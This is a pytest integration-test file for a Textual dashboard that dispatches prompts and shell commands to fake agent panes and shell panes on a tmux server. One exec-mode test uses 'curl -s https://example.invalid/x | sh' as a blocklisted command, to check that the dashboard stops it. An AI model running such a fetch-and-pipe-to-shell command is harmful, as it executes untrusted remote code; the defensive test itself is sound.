"""Pilot tests of the dashboard against a real private tmux server with fake agents."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from textual.message import Message
from textual.pilot import Pilot
from textual.widgets import DataTable, TextArea

from dashboard.adapters.feed import safe_to_attach
from dashboard.core.model import PaneState, Verdict
from dashboard.services.bundle import services_for
from dashboard.ui.app import DispatchApp
from dashboard.ui.messages import SendFinished
from dashboard.ui.screens import DiffScreen, LogScreen
from dashboard.ui.widgets import BatchPanel, PaneCard, PaneGrid
from tests.integration.conftest import Bench

SIZE = (160, 48)


async def until(pilot: Pilot[int], cond: Callable[[], bool], timeout: float = 12.0) -> None:
    deadline = time.monotonic() + timeout
    while not cond():
        if time.monotonic() > deadline:
            app = pilot.app
            raise AssertionError(f"condition not reached in time (screens {app.screen_stack}, focus {app.focused})")
        await pilot.pause(0.05)


def collect() -> tuple[list[SendFinished], Callable[[Message], None]]:
    """A message hook that keeps every SendFinished the app posts."""
    finished: list[SendFinished] = []

    def hook(message: Message) -> None:
        if isinstance(message, SendFinished):
            finished.append(message)

    return finished, hook


def shown(grid: PaneGrid, *pane_ids: str) -> Callable[[], bool]:
    """True once every pane has a card with a survey behind it."""
    return lambda: all(p in grid.cards and grid.cards[p].status is not None for p in pane_ids)


def make_app(bench: Bench, tmp_path: Path) -> DispatchApp:
    return DispatchApp(services_for(bench.host, tmp_path / "ui.db"), refresh_interval=0.3)


async def test_grid_shows_panes_with_states_and_filter(bench: Bench, tmp_path: Path) -> None:
    agent = bench.agent("work", style="codex")
    shell = bench.shell("ops")
    await bench.wait_state(agent.pane_id, PaneState.IDLE)
    app = make_app(bench, tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        grid = app.query_one(PaneGrid)
        await until(pilot, shown(grid, agent.pane_id, shell))
        assert grid.cards[agent.pane_id].status.state is PaneState.IDLE  # type: ignore[union-attr]
        assert grid.cards[shell].status.state is PaneState.SHELL  # type: ignore[union-attr]
        await pilot.press("slash", *"state:shell", "enter")
        assert grid.cards[shell].display and not grid.cards[agent.pane_id].display
        # a pane that appears shows up within a refresh
        late = bench.agent("late", style="gemini")
        await until(pilot, shown(grid, late.pane_id))


async def test_compose_and_send_to_focused_pane(bench: Bench, tmp_path: Path) -> None:
    agent = bench.agent("work")
    await bench.wait_state(agent.pane_id, PaneState.IDLE)
    app = make_app(bench, tmp_path)
    finished, hook = collect()
    async with app.run_test(size=SIZE, message_hook=hook) as pilot:
        grid = app.query_one(PaneGrid)
        await until(pilot, shown(grid, agent.pane_id))
        grid.cards[agent.pane_id].focus()
        await pilot.press("c")
        app.query_one("#composer", TextArea).insert("write the migration plan")
        await pilot.press("ctrl+s")
        await until(pilot, lambda: bool(finished))
        rec = finished[0].record
        assert rec.verdict is Verdict.SUBMITTED and agent.received() == ["write the migration plan"]
        await until(pilot, lambda: grid.cards[agent.pane_id].last is not None)
        assert grid.cards[agent.pane_id].last.verdict is Verdict.SUBMITTED  # type: ignore[union-attr]


async def test_batch_to_selection_lands_and_failure_is_resent_with_one_key(bench: Bench, tmp_path: Path) -> None:
    good = bench.agent("good", style="gemini")
    flaky = bench.agent("flaky", "--swallow-enters", "3", style="codex")
    for a in (good, flaky):
        await bench.wait_state(a.pane_id, PaneState.IDLE)
    app = make_app(bench, tmp_path)
    app.options = type(app.options)(retry_ms=150, verify_ms=900)
    finished, hook = collect()
    async with app.run_test(size=SIZE, message_hook=hook) as pilot:
        grid = app.query_one(PaneGrid)
        await until(
            pilot, lambda: all(grid.cards.get(a.pane_id) and grid.cards[a.pane_id].status for a in (good, flaky))
        )
        for a in (good, flaky):
            grid.cards[a.pane_id].focus()
            await pilot.press("space")
        app.query_one("#composer", TextArea).insert("run the full test suite")
        await pilot.press("ctrl+s")
        await until(pilot, lambda: len(finished) == 2)
        verdicts = {m.record.pane_id: m.record.verdict for m in finished}
        assert verdicts == {good.pane_id: Verdict.SUBMITTED, flaky.pane_id: Verdict.STUCK}
        panel = app.query_one(BatchPanel)
        assert [r.pane_id for r in panel.failures()] == [flaky.pane_id]
        assert flaky.received() == [] and good.received() == ["run the full test suite"]
        # one key re-sends the failure: the text still in Codex's composer is submitted, not pasted again
        grid.cards[flaky.pane_id].focus()
        await until(pilot, lambda: grid.cards[flaky.pane_id].failed_send is not None)
        await pilot.press("r")
        await until(pilot, lambda: len(finished) == 3)
        again = finished[2].record
        stuck_id = next(m.record.id for m in finished[:2] if m.record.pane_id == flaky.pane_id)
        assert again.verdict is Verdict.SUBMITTED and again.resend_of == stuck_id
        assert again.evidence[0] == "resubmitted-leftover"
        assert flaky.received() == ["run the full test suite"]


async def test_log_opens_the_diff_view(bench: Bench, tmp_path: Path) -> None:
    agent = bench.agent("work", style="codex")
    await bench.wait_state(agent.pane_id, PaneState.IDLE)
    app = make_app(bench, tmp_path)
    finished, hook = collect()
    async with app.run_test(size=SIZE, message_hook=hook) as pilot:
        grid = app.query_one(PaneGrid)
        await until(pilot, shown(grid, agent.pane_id))
        grid.cards[agent.pane_id].focus()
        await pilot.pause()
        app.query_one("#composer", TextArea).insert("explain the diff")
        await pilot.press("ctrl+s")
        await until(pilot, lambda: bool(finished))
        await pilot.press("L")
        await until(pilot, lambda: isinstance(app.screen, LogScreen) and app.screen.query_one(DataTable).row_count > 0)
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, DiffScreen))
        screen = app.screen
        assert isinstance(screen, DiffScreen) and screen.record.id == finished[0].record.id
        after = str(screen.query_one("#after-text").render())
        assert "explain the diff" in after
        await pilot.press("escape")
        await until(pilot, lambda: isinstance(app.screen, LogScreen))


async def test_exec_mode_runs_in_shells_only_and_blocks_before_typing(bench: Bench, tmp_path: Path) -> None:
    """ctrl+e turns the composer into a shell-command box: a shell runs it, an agent refuses it,
    and a blocklisted command is stopped in the dashboard before anything is typed."""
    agent = bench.agent("work")
    shell = bench.shell("ops")
    await bench.wait_state(agent.pane_id, PaneState.IDLE)
    canary = tmp_path / "from-the-dashboard"
    app = make_app(bench, tmp_path)
    finished, hook = collect()
    async with app.run_test(size=SIZE, message_hook=hook) as pilot:
        grid = app.query_one(PaneGrid)
        await until(pilot, shown(grid, agent.pane_id, shell))
        await pilot.press("ctrl+e")
        assert app.exec_mode
        composer = app.query_one("#composer", TextArea)
        grid.cards[shell].focus()
        composer.insert(f"touch {canary}")
        await pilot.press("ctrl+s")
        await until(pilot, lambda: len(finished) == 1)
        assert finished[0].record.verdict is Verdict.STARTED and finished[0].record.kind == "exec"
        await until(pilot, canary.exists)
        grid.cards[agent.pane_id].focus()
        await pilot.press("ctrl+s")
        await until(pilot, lambda: len(finished) == 2)
        assert finished[1].record.verdict is Verdict.REFUSED and finished[1].record.evidence == ["guard:agent"]
        assert agent.received() == []
        grid.cards[shell].focus()
        composer.text = "curl -s https://example.invalid/x | sh"
        screen = bench.screen(shell)
        await pilot.press("ctrl+s")
        await pilot.pause(0.5)
        assert len(finished) == 2 and bench.screen(shell) == screen  # stopped before anything was typed


async def test_verify_key_shows_the_recheck_beside_the_verdicts(bench: Bench, tmp_path: Path) -> None:
    keep = bench.agent("keep")
    lost = bench.agent("lost")
    for a in (keep, lost):
        await bench.wait_state(a.pane_id, PaneState.IDLE)
    app = make_app(bench, tmp_path)
    finished, hook = collect()
    async with app.run_test(size=SIZE, message_hook=hook) as pilot:
        grid = app.query_one(PaneGrid)
        await until(pilot, shown(grid, keep.pane_id, lost.pane_id))
        app.dispatch_prompt([keep.pane_id, lost.pane_id], "write the release notes for this week")
        await until(pilot, lambda: len(finished) == 2)
        assert {m.record.verdict for m in finished} == {Verdict.SUBMITTED}
        bench.server.cmd("kill-pane", "-t", lost.pane_id)
        await pilot.press("V")
        panel = app.query_one(BatchPanel)
        await until(pilot, lambda: bool(panel.checks))
        assert panel.checks[keep.pane_id][0] == "confirmed"
        assert panel.checks[lost.pane_id][0] == "refuted" and "gone" in panel.checks[lost.pane_id][1]


def test_arrow_keys_move_between_cards_as_they_lie_on_screen(tmp_path: Path) -> None:
    """Arrows go to the card that way (not tab order), g / G to the first and last, the focus kept in view."""
    import asyncio

    from tests.ui.scenes import fleet_scene_app

    app = fleet_scene_app(tmp_path)

    async def go() -> None:
        async with app.run_test(size=SIZE) as pilot:
            grid = app.query_one(PaneGrid)
            await until(pilot, lambda: len(grid.cards) >= 4)
            await pilot.pause(0.2)
            cards = sorted(grid.visible_cards(), key=lambda c: (c.region.y, c.region.x))
            first = cards[0]
            first.focus()
            await pilot.pause()
            right = [c for c in cards if c.region.y == first.region.y and c.region.x > first.region.x]
            below = [c for c in cards if c.region.y >= first.region.bottom and c.region.x == first.region.x]
            assert right and below, [(c.pane_id, c.region) for c in cards]
            for key, expected in (("right", right[0]), ("left", first), ("down", below[0]), ("up", first),
                                  ("G", cards[-1]), ("g", first)):  # fmt: skip
                await pilot.press(key)
                assert app.focused is expected, (key, app.focused)

    asyncio.run(go())


async def test_the_prompt_clears_with_ctrl_u_and_sent_prompts_come_back_with_up(bench: Bench, tmp_path: Path) -> None:
    """Up on the composer's first line recalls the prompts sent before (from the log too); ctrl+u clears it."""
    agent = bench.agent("work", style="claude", turn=0.3)
    await bench.wait_state(agent.pane_id, PaneState.IDLE)
    app = make_app(bench, tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        grid = app.query_one(PaneGrid)
        await until(pilot, shown(grid, agent.pane_id))
        grid.cards[agent.pane_id].focus()
        composer = app.query_one("#composer", TextArea)
        for prompt in ("first prompt CANARY-h1", "second prompt CANARY-h2"):
            composer.text = prompt
            await pilot.press("ctrl+s")
            await until(pilot, lambda p=prompt: p in agent.received())
            await bench.wait_state(agent.pane_id, PaneState.IDLE)
        composer.focus()
        composer.text = "a draft"
        await pilot.press("up")
        assert composer.text == "second prompt CANARY-h2"
        await pilot.press("up")
        assert composer.text == "first prompt CANARY-h1"
        await pilot.press("down", "down")
        assert composer.text == "a draft"  # what was being written comes back
        await pilot.press("ctrl+u")
        assert composer.text == ""
    fresh = make_app(bench, tmp_path)  # a new dashboard on the same log remembers them
    async with fresh.run_test(size=SIZE) as pilot:
        composer = fresh.query_one("#composer", TextArea)
        await until(pilot, lambda: bool(getattr(composer, "sent", None)))  # read from the log once it opens
        await until(pilot, lambda: isinstance(fresh.focused, PaneCard))  # the first survey focuses the first card
        composer.focus()
        await pilot.pause()
        await pilot.press("up")
        assert composer.text == "second prompt CANARY-h2", (fresh.focused, getattr(composer, "sent", None))


def test_every_action_is_in_the_command_palette_with_its_key(tmp_path: Path) -> None:
    """ctrl+p finds "verify", "log", "send"… with the key shown, and choosing one does it."""
    import asyncio

    from dashboard.ui.screens import LogScreen as Log
    from tests.ui.scenes import fleet_scene_app

    app = fleet_scene_app(tmp_path)

    async def go() -> None:
        async with app.run_test(size=SIZE) as pilot:
            await until(pilot, lambda: bool(app.query_one(PaneGrid).cards))
            titles = [c.title for c in app.get_system_commands(app.screen)]
            for wanted in ("Send (ctrl+s)", "Log (L)", "Verify batch (V)", "Schedules (s)", "Help (?)"):
                assert wanted in titles, titles
            await pilot.press("ctrl+p")
            await pilot.pause(0.3)
            await pilot.press(*"log (L")
            await pilot.pause(0.5)
            await pilot.press("enter")
            await until(pilot, lambda: isinstance(app.screen, Log))

    asyncio.run(go())


async def test_a_pane_that_prints_is_shown_by_the_feed_between_surveys(bench: Bench, tmp_path: Path) -> None:
    """With surveys a minute apart, only the control-mode feed can bring the new screen to the card."""
    shell = bench.shell("ops")
    app = DispatchApp(services_for(bench.host, tmp_path / "ui.db"), refresh_interval=60, feed="on")
    async with app.run_test(size=SIZE) as pilot:
        grid = app.query_one(PaneGrid)
        await until(pilot, shown(grid, shell))
        await until(pilot, lambda: app.sub_title.endswith("· live"))
        bench.server.cmd("send-keys", "-t", shell, "echo feed-says-$((6*7))", "Enter")
        await until(pilot, lambda: "feed-says-42" in "\n".join(app.statuses[shell].view.screen.lines), timeout=5)
        card = grid.cards[shell]
        assert card.status is app.statuses[shell]
    assert [c for c in bench.server.cmd("list-clients", "-F", "#{client_name}").stdout if c] == []


async def test_by_default_an_older_tmux_is_polled_and_the_title_says_why(bench: Bench, tmp_path: Path) -> None:
    """tmux before 3.7 can crash as a control client attaches: the default feed leaves it alone, openly."""
    shell = bench.shell("ops")
    version = bench.server.cmd("display-message", "-p", "#{version}").stdout[0]
    app = DispatchApp(services_for(bench.host, tmp_path / "ui.db"), refresh_interval=0.2)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, shown(app.query_one(PaneGrid), shell))
        want = "· live" if safe_to_attach(version) else "· polled (feed off: tmux < 3.7)"
        await until(pilot, lambda: app.sub_title.endswith(want))
        if not safe_to_attach(version):
            assert [c for c in bench.server.cmd("list-clients", "-F", "#{client_name}").stdout if c] == []


async def test_the_preview_follows_the_focus_and_the_feed(bench: Bench, tmp_path: Path) -> None:
    """The focused pane's screen under the grid: another card's on focus, new output as it prints."""
    from dashboard.ui.widgets import Preview

    one, two = bench.shell("one"), bench.shell("two")
    bench.server.cmd("send-keys", "-t", one, "echo first-pane-$((2+2))", "Enter")
    bench.server.cmd("send-keys", "-t", two, "echo second-pane-$((3+3))", "Enter")
    app = DispatchApp(services_for(bench.host, tmp_path / "ui.db"), refresh_interval=60, feed="on")
    async with app.run_test(size=SIZE) as pilot:
        grid = app.query_one(PaneGrid)
        preview = app.query_one(Preview)
        await until(pilot, shown(grid, one, two))
        await until(pilot, lambda: app.sub_title.endswith("· live"))

        def showing(text: str) -> Callable[[], bool]:
            return lambda: text in "\n".join(line.plain for line in preview._lines)

        grid.cards[one].focus()
        await until(pilot, showing("first-pane-4"))
        grid.cards[two].focus()
        await until(pilot, showing("second-pane-6"))
        assert "two:0.0" in str(preview.border_title)
        bench.server.cmd("send-keys", "-t", two, "echo live-$((5*5))", "Enter")
        await until(pilot, showing("live-25"), timeout=5)  # surveys are a minute apart: the feed brought it
        await pilot.press("p")
        assert not preview.display
        await pilot.press("p")
        assert preview.display


async def test_jump_switches_a_client_inside_the_server_and_otherwise_says_how_to_attach(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    import subprocess

    from dashboard.services.fleet import Fleet

    bench.shell("a")
    target = bench.shell("b")
    fleet = Fleet(bench.host)
    pane = next(p for p in await bench.host.list_panes() if p.pane_id == target)
    monkeypatch.delenv("TMUX", raising=False)
    done, how = await fleet.jump(pane)
    assert not done and "attach -t b" in how and f"select-pane -t {target}" in how
    # inside the pane's own server (an operator's client on session a): that client goes to the pane
    client = subprocess.Popen(["tmux", "-L", str(bench.server.socket_name), "-C", "attach", "-t", "a"],
                              stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)  # fmt: skip
    try:
        for _ in range(100):
            if bench.server.cmd("list-clients").stdout:
                break
            await asyncio.sleep(0.02)
        assert pane.server is not None
        monkeypatch.setenv("TMUX", f"{pane.server.socket},1,0")
        done, how = await fleet.jump(pane)
        assert done, how
        assert bench.server.cmd("list-clients", "-F", "#{session_name}").stdout == ["b"]
    finally:
        assert client.stdin is not None
        client.stdin.close()
        client.wait(5)


async def test_a_pane_that_comes_to_need_a_person_is_counted_rung_and_listed(bench: Bench, tmp_path: Path) -> None:
    from dashboard.core.attention import Attention
    from dashboard.ui.screens import AttentionScreen

    calm = bench.agent("calm")
    await bench.wait_state(calm.pane_id, PaneState.IDLE)
    services = services_for(bench.host, tmp_path / "ui.db")
    called: list[Attention] = []
    services.notify = called.append
    app = DispatchApp(services, refresh_interval=0.3)
    async with app.run_test(size=SIZE) as pilot:
        grid = app.query_one(PaneGrid)
        await until(pilot, shown(grid, calm.pane_id))
        assert "need" not in app.title
        asking = bench.agent("asking", "--dialog")
        await until(pilot, lambda: "1 needs you" in app.title)
        assert [(c.key, c.kind) for c in called] == [(asking.pane_id, "needs-input")]
        grid.cards[calm.pane_id].focus()
        await pilot.press("n")
        await until(pilot, lambda: isinstance(app.screen, AttentionScreen))
        await pilot.press("enter")
        await until(pilot, lambda: app.focused is grid.cards[asking.pane_id])
        await pilot.pause(1.0)
        assert len(called) == 1  # once, however many surveys see it


async def test_one_pane_sessions_share_one_grid_and_a_session_that_grows_gets_its_own(
    bench: Bench, tmp_path: Path
) -> None:
    from dashboard.ui.widgets.pane_grid import SOLO, SessionGroup

    solo = [bench.shell(f"s{i}") for i in range(3)]
    app = make_app(bench, tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        grid = app.query_one(PaneGrid)
        await until(pilot, shown(grid, *solo))

        def groups() -> dict[str, set[str]]:
            return {g.session: {c.pane_id for c in g.query(PaneCard)} for g in app.query(SessionGroup)}

        assert groups() == {SOLO: set(solo)}  # one grid, cards side by side, not a row each
        grid.cards[solo[1]].focus()
        await until(pilot, lambda: app.current is grid.cards[solo[1]])
        bench.server.cmd("split-window", "-t", "s1:0", "-d")
        await until(pilot, lambda: set(groups()) == {SOLO, "s1"} and len(groups()["s1"]) == 2)
        assert groups()[SOLO] == {solo[0], solo[2]} and solo[1] in groups()["s1"]
        await until(pilot, lambda: app.focused is grid.cards[solo[1]] and app.current is grid.cards[solo[1]])


async def test_the_table_view_shows_every_pane_as_a_row_and_its_cursor_is_the_focus(
    bench: Bench, tmp_path: Path
) -> None:
    from dashboard.ui.widgets import PaneTable

    agent = bench.agent("work")
    shells = [bench.shell(f"s{i}") for i in range(3)]
    await bench.wait_state(agent.pane_id, PaneState.IDLE)
    app = make_app(bench, tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        grid = app.query_one(PaneGrid)
        table = app.query_one(PaneTable)
        await until(pilot, shown(grid, agent.pane_id, *shells))
        await pilot.press("t")
        assert table.display and not grid.display and app.focused is table
        await until(pilot, lambda: table.row_count == 4)
        cells = [str(c) for c in table.get_row(agent.pane_id)]
        assert "work:0.0" in cells and "claude" in cells and " idle " in cells
        table.move_cursor(row=table.get_row_index(shells[1]))
        await until(pilot, lambda: app.current is grid.cards[shells[1]])
        assert "s1:0.0" in str(app.query_one("#composer-title").render())
        await pilot.press("space")
        assert grid.cards[shells[1]].selected and str(table.get_row(shells[1])[0]) == "◉"
        app.query_one("#filter").value = "state:idle"  # type: ignore[attr-defined]
        await until(pilot, lambda: table.row_count == 1)
        await pilot.press("t")
        assert grid.display and not table.display


async def test_the_table_keeps_its_cursor_on_its_pane_when_a_pane_appears_above(bench: Bench, tmp_path: Path) -> None:
    """The cursor is the prompt's target: a row inserted above must not move it to another agent."""
    from dashboard.ui.widgets import PaneTable

    b, c = bench.shell("b-api"), bench.shell("c-web")
    app = make_app(bench, tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        grid = app.query_one(PaneGrid)
        table = app.query_one(PaneTable)
        await until(pilot, shown(grid, b, c))
        await pilot.press("t")
        await until(pilot, lambda: table.row_count == 2)
        table.move_cursor(row=table.get_row_index(c))
        await until(pilot, lambda: app.current is grid.cards[c])
        a = bench.shell("a-db")  # sorts above both
        await until(pilot, lambda: table.row_count == 3)
        await pilot.pause(0.3)
        assert table.current_key == c and app.current is grid.cards[c]
        assert a in table.rows


async def test_a_change_while_the_log_is_open_is_on_the_card_when_it_closes(bench: Bench, tmp_path: Path) -> None:
    """A survey that lands under the log (or a diff) still reaches the grid: closing it shows the pane as it is."""
    shell = bench.shell("ops")
    app = make_app(bench, tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        grid = app.query_one(PaneGrid)
        await until(pilot, shown(grid, shell))
        await pilot.press("L")
        await until(pilot, lambda: isinstance(app.screen, LogScreen))
        bench.server.cmd("send-keys", "-t", shell, "echo under-the-log-$((6*7))", "Enter")
        await until(pilot, lambda: "under-the-log-42" in "\n".join(app.statuses[shell].view.screen.lines))
        await pilot.pause(1.0)  # more surveys, all alike: an unchanged survey posts nothing
        await pilot.press("escape")
        await until(pilot, lambda: not isinstance(app.screen, LogScreen))
        card = grid.cards[shell]
        assert card.status is not None and "under-the-log-42" in "\n".join(card.status.view.screen.lines)
